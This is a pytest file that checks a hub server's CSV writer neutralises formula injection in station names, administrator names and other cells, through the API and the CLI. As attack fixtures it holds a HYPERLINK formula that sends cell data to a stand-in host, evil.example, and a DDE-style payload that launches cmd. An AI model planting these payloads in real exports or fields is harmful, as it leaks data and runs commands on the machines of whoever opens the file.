"""Issue 18, finding 7: CSV formula injection. Every CSV the hub writes goes through one
writer (server_hub/store/csvout.py) whose text cells cannot start a formula: a station named
`=HYPERLINK(...)` and an activity administrator named `@SUM(...)` come out of the real API's
`format=csv` (on SQLite and PostgreSQL) and the CLI's `--csv` as text ('=..., '@...), numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest


from bankkit import SESSION_START, api_client, close_api, credited_district
from server_hub.store import csvout

EVIL_STATION = '=HYPERLINK("http://evil.example/?"&A1,"open")'
EVIL_ADMIN = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def api(db_url, tmp_path):     # SQLite and PostgreSQL (hubkit.db_url)
    client = api_client(tmp_path, db_url)
    yield client
    close_api(client)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@A1", "\t=1", "\r=1"])
def test_cells_that_would_run_are_text(text):
    assert csvout.cell(text) == "'" + text


def test_plain_cells_and_numbers_are_unchanged():
    assert [csvout.cell(v) for v in ("Library", "L-1", "", 3, -2.5, None)] == \
        ["Library", "L-1", "", 3, -2.5, None]


def _cells(text):
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_grade_and_reward_csvs_from_the_api_are_formula_free(api, tmp_path):
    credited_district(api.hub, credits=1)
    a = {"Authorization": f"Bearer {api.tokens['admin']}"}
    assert api.patch("/api/v1/stations/S-1", headers=a,
                     json={"name": EVIL_STATION}).status_code == 200
    assert api.put("/api/v1/activities/A-1/administrator", headers=a,
                   json={"admin": EVIL_ADMIN}).status_code == 200
    q = f"since={SESSION_START - 3600}&until={SESSION_START + 86400}&format=csv"
    stations = api.get(f"/api/v1/evaluation/stations?{q}", headers=a).text
    rewards = api.get(f"/api/v1/evaluation/rewards?{q}", headers=a).text
    assert "'" + EVIL_STATION in _cells(stations)
    assert "'" + EVIL_ADMIN in _cells(rewards)
    for cell in _cells(stations) + _cells(rewards):
        assert not cell.startswith(csvout.FORMULA_PREFIXES), cell
